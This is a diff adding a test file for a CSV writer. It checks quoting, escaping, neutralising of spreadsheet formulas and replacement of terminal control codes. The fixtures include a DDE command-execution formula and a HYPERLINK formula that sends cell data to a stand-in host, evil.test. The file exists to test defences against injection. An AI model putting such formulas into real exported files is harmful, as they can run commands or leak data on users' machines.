@@ -1,0 +1,43 @@
+import { expect, test } from "vitest";
+import { csvRow } from "~/desk/csv";
+
+test.each([
+  ["plain words", "plain words"],
+  ["a, b", '"a, b"'],
+  ['say "hi"', '"say ""hi"""'],
+  ["two\nlines", '"two\nlines"'],
+  ["two\r\nlines", '"two\r\nlines"'],
+  [" blanks ", '" blanks "'],
+  ["a;b", '"a;b"'],
+  ["", ""],
+  ["Grüße 日本語 😀", "Grüße 日本語 😀"],
+  ["a-b@c.test", "a-b@c.test"],
+])("%j is written %j", (text, cell) => expect(csvRow([text])).toBe(`${cell}\r\n`));
+
+test("a record is its cells with commas between them; what is missing is empty", () => {
+  expect(csvRow(["a", null, 5, -5, undefined, "b"])).toBe("a,,5,-5,,b\r\n");
+});
+
+test.each([
+  ["=1+1", "'=1+1"],
+  ["+44 113 496 0000", "'+44 113 496 0000"],
+  ["-2+3", "'-2+3"],
+  ["@SUM(A1)", "'@SUM(A1)"],
+  ["\t=1", '"\'\t=1"'],
+  ["\ttab", '"\'\ttab"'],
+  ["\rreturn", '"\'\rreturn"'],
+  ["  =1+1", "'  =1+1"],
+  ["\n=1+1", '"\'\n=1+1"'],
+  ["\u00a0=1+1", "'\u00a0=1+1"],
+  ["\ufeff=1+1", "'\ufeff=1+1"],
+  ['"=1+1', '"\'""=1+1"'],
+  ["'=1+1", "''=1+1"],
+  ["＝1+1", "'＝1+1"],
+  ['=cmd|" /C calc"!A0', '"\'=cmd|"" /C calc""!A0"'],
+  ['=HYPERLINK("http://evil.test?x="&A1,"x")', '"\'=HYPERLINK(""http://evil.test?x=""&A1,""x"")"'],
+])("%j is no formula to a spreadsheet", (text, cell) => expect(csvRow([text])).toBe(`${cell}\r\n`));
+
+test("codes that a terminal would obey are replaced", () => {
+  expect(csvRow(["\x1b[31mred\x9b0m\0\u202e"])).toBe("\ufffd[31mred\ufffd0m\ufffd\ufffd\r\n");
+  expect(csvRow(["\x1b=1"])).toBe("\ufffd=1\r\n");
+});
